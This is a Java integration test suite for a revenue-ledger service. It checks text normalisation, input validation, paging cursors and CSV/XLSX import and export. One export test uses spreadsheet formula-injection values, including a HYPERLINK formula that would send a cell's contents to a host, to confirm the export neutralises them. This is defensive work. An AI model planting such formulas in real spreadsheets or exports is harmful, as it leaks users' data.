package org.linli.company;

import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.linli.platform.file.TableFormat;
import org.linli.platform.security.Role;
import org.linli.platform.testing.LinliTest;
import org.linli.platform.testing.ServiceUnderTest;
import org.linli.platform.testing.history.Histories;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.web.util.UriUtils;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.IntStream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.linli.platform.security.Role.BRANCH_CLERK;
import static org.linli.platform.security.Role.CITY;

/** What is typed, pasted and saved by spreadsheets, read the same way by forms, files and addresses. */
@LinliTest
class OneMeaningForOneTextIT {

    private static final String HEADER =
            "entry_no,unit_code,period,date,line,project,counterparty_unit,partner,gross,tax,direct_cost,memo";

    @Autowired
    ServiceUnderTest service;

    private CompanySteps steps;
    private String branch;

    @BeforeEach
    void a_branch() {
        steps = new CompanySteps(service.http());
        branch = Histories.freshStreet() + "101";
        steps.register(branch);
    }

    @Test
    void a_sale_whose_number_looks_alike_is_one_sale() {
        String no = "X" + branch;
        String rest = "," + branch + ",2026-03,2026-03-05,CANTEEN,p,,a,100.00,0.00,0.00,m\n";
        StringBuilder file = new StringBuilder(HEADER + "\n");
        for (String typed : List.of(
                no,
                no + " ",
                no + "\u00A0",
                "\u3000" + no,
                no + "\u200B",
                "\uFEFF" + no,
                "Ｘ" + branch,
                no + "\t",
                "x" + branch)) {
            file.append(typed).append(rest);
        }
        file.append(no)
                .append(",")
                .append(branch)
                .append(",2026-03,2026-03-05,CANTEEN,ｐ\u00A0,,\u3000a,100.00,0.00,0.00,m\n");
        JsonNode answer = upload(file.toString(), 200);
        assertThat(answer.get("accepted").asInt()).isEqualTo(1);
        assertThat(answer.get("unchanged").asInt()).isEqualTo(9);
        assertThat(entries("")).hasSize(1);
        assertThat(entries("&entryNo=" + encoded("\u00A0ｘ" + branch))).hasSize(1);
        assertThat(entries("&project=" + encoded("ｐ "))).hasSize(1);
        assertThat(steps.get(BRANCH_CLERK, branch, "/entries/x" + branch + " ")
                        .get("entryNo")
                        .asString())
                .isEqualTo(no);
    }

    @Test
    void an_entry_kept_under_an_odd_number_is_still_found() {
        String odd = "Ｙ" + branch + "\u200B";
        service.database()
                .execute("INSERT INTO revenue_entry (entry_no, entry_key, unit_code, period, date, line, project,"
                        + " gross, tax, direct_cost, recorded_by) VALUES ('" + odd + "', upper(name_in_normal_form('"
                        + odd + "')),"
                        + " '" + branch + "', '2026-03', '2026-03-15', 'CANTEEN', '饭堂 ', 100, 0, 0, 'somebody')");
        assertThat(steps.get(BRANCH_CLERK, branch, "/entries/Y" + branch)
                        .get("entryNo")
                        .asString())
                .isEqualTo(odd);
        Map<String, Object> again = CompanySteps.entry("Y" + branch, branch, "2026-03", "1.00");
        again.put("project", "饭堂");
        assertThat(steps.record(branch, List.of(again)).get("unchanged").asInt())
                .isEqualTo(1);
        assertThat(entries("&entryNo=" + encoded("Y" + branch))).hasSize(1);
        assertThat(entries("&project=" + encoded("饭堂 "))).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "A/1",
                "A%1",
                "A;1",
                "A\\1",
                "a\u001Fb",
                "a\u202Eb",
                "..",
                "export",
                "2.02609E+17",
                "a\tb",
                "#N/A",
                "\u200B"
            })
    void a_number_that_could_not_be_read_back_is_refused_by_name(String number) {
        JsonNode problem = steps.post(
                BRANCH_CLERK, branch, "/entries", CompanySteps.entry(number, branch, "2026-03", "1.00"), 422);
        assertThat(problem.get("errors").get(0).get("field").asString()).isEqualTo("entryNo");
    }

    @ParameterizedTest
    @ValueSource(strings = {"A+1 ?b=c#d&e", "收-1 号", "A|1", "A\"1'", "...", "A:1@b"})
    void any_other_number_can_be_read_back_and_withdrawn(String number) {
        String unique = branch + number;
        JsonNode made = steps.post(
                BRANCH_CLERK, branch, "/entries", CompanySteps.entry(unique, branch, "2026-03", "1.00"), 201);
        assertThat(made.get("entryNo").asString()).isEqualTo(unique);
        String address = "/api/company/entries/" + UriUtils.encodePathSegment(unique, StandardCharsets.UTF_8);
        assertThat(steps.follow(BRANCH_CLERK, branch, address).get("entryNo").asString())
                .isEqualTo(unique);
        service.http()
                .as(BRANCH_CLERK, branch)
                .post()
                .uri(service.http().base().resolve(address + "/withdrawal"))
                .bodyValue(Map.of("reason", "typed twice"))
                .exchange()
                .expectStatus()
                .isOk();
    }

    @Test
    void one_bad_row_of_a_batch_holds_up_no_other() {
        Map<String, Object> bad = CompanySteps.entry(branch + "-1", branch, "2026-03", "1.00");
        bad.put("project", "a\u001Fb");
        JsonNode answer =
                steps.record(branch, List.of(bad, CompanySteps.entry(branch + "-2", branch, "2026-03", "1.00")));
        assertThat(answer.get("accepted").asInt()).isEqualTo(1);
        assertThat(answer.get("rows").get(0).get("errors").get(0).get("reason").asString())
                .contains("U+001F");
    }

    @Test
    void a_branch_sells_nothing_to_itself() {
        Map<String, Object> entry = CompanySteps.entry(branch + "-1", branch, "2026-03", "1.00");
        entry.put("counterparty", branch);
        JsonNode problem = steps.post(BRANCH_CLERK, branch, "/entries", entry, 422);
        assertThat(problem.get("errors").get(0).get("field").asString()).isEqualTo("counterparty");
    }

    @Test
    void a_file_in_gbk_is_refused_as_a_whole() {
        String rows = HEADER + "\n" + branch + "-1," + branch + ",2026-03,2026-03-05,CANTEEN,,,,1.00,0.00,0.00,\n"
                + branch + "-2," + branch + ",2026-03,2026-03-05,CANTEEN,%s,,,1.00,0.00,0.00,\n";
        for (String project : List.of("医院", "长者饭堂")) {
            upload(rows.formatted(project).getBytes(Charset.forName("GBK")), "text/csv", 422);
        }
        upload(rows.formatted("医院").getBytes(Charset.forName("GBK")), "text/csv;charset=GBK", 422);
        assertThat(entries("")).isEmpty();
        assertThat(upload(rows.formatted("医院"), 200).get("accepted").asInt()).isEqualTo(2);
    }

    @Test
    void what_a_spreadsheet_leaves_behind_is_passed_over_and_what_it_spoils_is_named() {
        String file = HEADER + ",,\n" + branch + "-1," + branch
                + ",2026-03,2026-03-05,CANTEEN,p,,a,1.00,0.00,0.00,m,,\n"
                + ",,,,,,,,,,,,,\n" + "2.02609E+17," + branch + ",2026-03,2026-03-05,CANTEEN,,,,1.00,0.00,0.00,,,\n"
                + branch + "-2," + branch + ",2026/3,2026/3/5,CANTEEN,,,,\"1,000.00\",０.00,(0.00),,,\n";
        JsonNode answer = upload(file, 200);
        assertThat(answer.get("accepted").asInt()).isEqualTo(1);
        assertThat(answer.get("refusedRows"))
                .extracting(cell ->
                        cell.get("line").asInt() + " " + cell.get("column").asString() + " "
                                + cell.get("expected").asString().split(":")[0])
                .containsSubsequence("5 period 2026-03", "5 date 2026-03-05", "5 gross 1000.00", "5 tax 0.00");
        assertThat(answer.get("refusedRows").get(0).get("line").asInt()).isEqualTo(4);
        assertThat(answer.get("refusedRows").get(0).get("column").asString()).isEqualTo("entry_no");
    }

    @Test
    void an_export_runs_in_no_spreadsheet_and_is_read_back_unchanged() {
        Map<String, Object> entry = CompanySteps.entry("=" + branch, branch, "2026-03", "-12.50");
        entry.put("project", "=HYPERLINK(\"http://127.0.0.1/?x=\"&A2,\"详情\")");
        entry.put("partner", "@SUM(1+1)");
        entry.put("memo", "+1+1");
        steps.record(branch, List.of(entry));
        String export = new String(
                Objects.requireNonNull(service.http()
                        .as(BRANCH_CLERK, branch)
                        .get()
                        .uri("/api/company/entries/export")
                        .exchange()
                        .expectBody()
                        .returnResult()
                        .getResponseBody()),
                StandardCharsets.UTF_8);
        assertThat(export)
                .contains("'=" + branch + ",", ",\"'=HYPERLINK(", ",'@SUM(1+1),", ",-12.50,", ",'+1+1")
                .doesNotContain(",=", ",@", ",+");
        assertThat(upload(export, 200).get("unchanged").asInt()).isEqualTo(1);
    }

    @Test
    void an_export_as_xlsx_is_read_back_unchanged_and_under_its_key_only_once() {
        Map<String, Object> entry = CompanySteps.entry("=" + branch, branch, "2026-03", "-12.50");
        entry.put("project", "长者饭堂, \"一\"");
        entry.put("memo", "+1+1\n二");
        steps.record(branch, List.of(entry, CompanySteps.entry("000" + branch, branch, "2026-03", "1.00")));
        byte[] export = Objects.requireNonNull(service.http()
                .as(BRANCH_CLERK, branch)
                .get()
                .uri("/api/company/entries/export?format=XLSX")
                .exchange()
                .expectStatus()
                .isOk()
                .expectHeader()
                .contentType(TableFormat.XLSX_TYPE)
                .expectBody()
                .returnResult()
                .getResponseBody());
        JsonNode answer = upload(export, TableFormat.XLSX_TYPE, 200);
        assertThat(answer.get("unchanged").asInt()).isEqualTo(2);
        assertThat(answer.get("refused").asInt()).isZero();
        upload(export, "text/csv", 422);
        assertThat(status("/entries/export?format=xml")).isEqualTo(400);
    }

    @Test
    void an_xlsx_file_is_answered_row_by_row_with_the_rows_of_its_sheet() throws IOException {
        var file = new ByteArrayOutputStream();
        try (Workbook workbook = new Workbook(file, "test", null)) {
            Worksheet sheet = workbook.newWorksheet("流水");
            List<String> columns = List.of(HEADER.split(","));
            IntStream.range(0, columns.size()).forEach(at -> sheet.value(0, at, columns.get(at)));
            for (int row = 1; row <= 4; row++) {
                sheet.value(row, columns.indexOf("entry_no"), branch + "-" + row);
                sheet.value(row, columns.indexOf("unit_code"), Long.parseLong(branch));
                sheet.value(row, columns.indexOf("period"), "2026-03");
                sheet.value(row, columns.indexOf("date"), LocalDate.of(2026, 3, 5));
                sheet.style(row, columns.indexOf("date")).format("yyyy/m/d").set();
                sheet.value(row, columns.indexOf("line"), "CANTEEN");
                sheet.value(row, columns.indexOf("gross"), 0.1 + 0.2);
                sheet.value(row, columns.indexOf("tax"), 0);
                sheet.value(row, columns.indexOf("direct_cost"), 0);
            }
            sheet.value(2, columns.indexOf("entry_no"), 2.0260900000000001E+17);
            sheet.value(3, columns.indexOf("tax"), 0.5);
            sheet.style(3, columns.indexOf("tax")).format("0%").set();
            sheet.value(4, columns.indexOf("gross"), "1,000.00");
        }
        JsonNode answer = upload(file.toByteArray(), TableFormat.XLSX_TYPE, 200);
        assertThat(answer.get("accepted").asInt()).isEqualTo(1);
        assertThat(answer.get("refused").asInt()).isEqualTo(3);
        assertThat(answer.get("refusedRows"))
                .extracting(cell ->
                        cell.get("line").asInt() + " " + cell.get("column").asString())
                .containsExactly("3 entry_no", "4 tax", "5 gross");
        assertThat(entries("").get(0).get("gross").asString()).isEqualTo("0.30");
        JsonNode broken = upload(HEADER.getBytes(StandardCharsets.UTF_8), TableFormat.XLSX_TYPE, 422);
        assertThat(broken.get("errors").get(0).get("reason").asString()).contains("text");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"-4800-01-01\"",
                "\"+999999999-12-31\"",
                "[2026,3,31]",
                "20260331",
                "\"2026-03-31T00:00:00\"",
                "\"2026-02-30\"",
                "\"1899-12-31\"",
                "\"2026/3/31\"",
                "\"２０２６-03-31\""
            })
    void a_day_is_a_day_of_these_centuries(String startedOn) {
        String body =
                "{\"unit\":\"" + branch + "\",\"name\":\"饭堂\",\"line\":\"CANTEEN\",\"startedOn\":" + startedOn + "}";
        JsonNode problem = read(
                service.http()
                        .as(BRANCH_CLERK, branch)
                        .post()
                        .uri("/api/company/projects")
                        .contentType(MediaType.APPLICATION_JSON)
                        .bodyValue(body)
                        .exchange(),
                422);
        assertThat(problem.get("errors").get(0).get("field").asString()).isEqualTo("startedOn");
    }

    @Test
    void projects_whose_names_look_alike_are_one_and_the_list_can_be_paged() {
        Map<String, Object> project = new LinkedHashMap<>(
                Map.of("unit", branch, "name", "饭堂（一）", "line", "CANTEEN", "startedOn", "2026-01-01"));
        steps.post(BRANCH_CLERK, branch, "/projects", project, 201);
        project.put("name", "\u00A0饭堂(一)\u200B");
        steps.post(BRANCH_CLERK, branch, "/projects", project, 409);
        project.put("name", "a\u001Fb");
        steps.post(BRANCH_CLERK, branch, "/projects", project, 400);
        for (String odd : List.of("a\u001Fb", "b\u001Ec")) {
            service.database()
                    .execute("INSERT INTO project (unit_code, name, line, started_on, created_by) VALUES ('" + branch
                            + "', '" + odd + "', 'CANTEEN', '2026-01-01', 'somebody')");
        }
        int seen = 0;
        String cursor = "";
        do {
            JsonNode page = steps.get(BRANCH_CLERK, branch, "/projects?limit=1" + cursor);
            seen += page.get("items").size();
            cursor = page.get("next").isNull()
                    ? ""
                    : "&cursor=" + page.get("next").asString();
        } while (!cursor.isEmpty());
        assertThat(seen).isEqualTo(3);
    }

    @Test
    void a_cursor_goes_on_with_its_own_order_and_filters_only() {
        steps.record(
                branch,
                List.of(
                        CompanySteps.entry(branch + "-1", branch, "2026-03", "1.00"),
                        CompanySteps.entry(branch + "-2", branch, "2026-03", "2.00")));
        String next = steps.get(BRANCH_CLERK, branch, "/entries?limit=1&sort=DATE")
                .get("next")
                .asString();
        assertThat(status("/entries?limit=2&sort=DATE&cursor=" + next)).isEqualTo(200);
        for (String other : List.of(
                "/entries?sort=GROSS&cursor=" + next,
                "/entries?cursor=" + next,
                "/entries?sort=DATE&line=OTHER&cursor=" + next,
                "/entries?sort=GROSS&cursor=YWJjH2FiYw",
                "/projects?sort=DATE&cursor=" + next,
                "/units?cursor=" + next,
                "/entries?sort=DATE&cursor=" + next + "A")) {
            assertThat(status(other)).as(other).isEqualTo(400);
        }
    }

    @Test
    void a_period_in_an_address_is_one_of_these_centuries() {
        for (String from : List.of("%2B12345-01", "1899-12", "2026-3", "2026-13", "202603")) {
            assertThat(status("/entries?from=" + from)).as(from).isEqualTo(400);
            assertThat(status("/statements?from=" + from)).as(from).isEqualTo(400);
            assertThat(status("/consolidation/cells?from=" + from)).as(from).isEqualTo(400);
        }
        assertThat(status("/entries?from=2026-03&to=")).isEqualTo(200);
    }

    @Test
    void a_code_filled_up_with_zeros_is_refused_with_the_unit_that_is_meant() {
        String city = branch.substring(0, 4);
        String street = branch.substring(0, 9);
        for (String code : List.of(street + "000", branch.substring(0, 6) + "000000", city + "00000000", city + "00")) {
            JsonNode problem = read(
                    service.http()
                            .as(CITY, city)
                            .put()
                            .uri("/api/company/units/" + code)
                            .bodyValue(Map.of("name", "环市"))
                            .exchange(),
                    422);
            assertThat(code)
                    .startsWith(problem.get("errors").get(0).get("expected").asString());
        }
        Map<String, Object> entry = CompanySteps.entry(branch + "-1", branch, "2026-03", "1.00");
        entry.put("counterparty", street + "000");
        assertThat(steps.post(BRANCH_CLERK, branch, "/entries", entry, 422)
                        .get("errors")
                        .get(0)
                        .get("expected")
                        .asString())
                .endsWith("means " + street);
        assertThat(service.http()
                        .as(CITY, "*")
                        .put()
                        .uri("/api/company/units/000000000000")
                        .bodyValue(Map.of("name", "无"))
                        .exchange()
                        .returnResult(byte[].class)
                        .getStatus()
                        .value())
                .isEqualTo(422);
    }

    private JsonNode entries(String filter) {
        return steps.follow(BRANCH_CLERK, branch, "/api/company/entries?unit=" + branch + filter)
                .get("items");
    }

    private static String encoded(String text) {
        return UriUtils.encode(text, StandardCharsets.UTF_8);
    }

    private int status(String address) {
        return service.http()
                .as(Role.BRANCH_CLERK, branch)
                .get()
                .uri(URI.create(service.http().base() + "/api/company" + address))
                .exchange()
                .returnResult(byte[].class)
                .getStatus()
                .value();
    }

    private JsonNode upload(String file, int status) {
        return upload(file.getBytes(StandardCharsets.UTF_8), "text/csv;charset=UTF-8", status);
    }

    private JsonNode upload(byte[] file, String type, int status) {
        return read(
                service.http()
                        .as(BRANCH_CLERK, branch)
                        .post()
                        .uri("/api/company/entries/import")
                        .contentType(MediaType.parseMediaType(type))
                        .bodyValue(file)
                        .exchange(),
                status);
    }

    private static JsonNode read(
            org.springframework.test.web.reactive.server.WebTestClient.ResponseSpec answer, int status) {
        byte[] body = answer.expectStatus()
                .isEqualTo(status)
                .expectBody()
                .returnResult()
                .getResponseBody();
        return JsonMapper.shared().readTree(Objects.requireNonNull(body));
    }
}
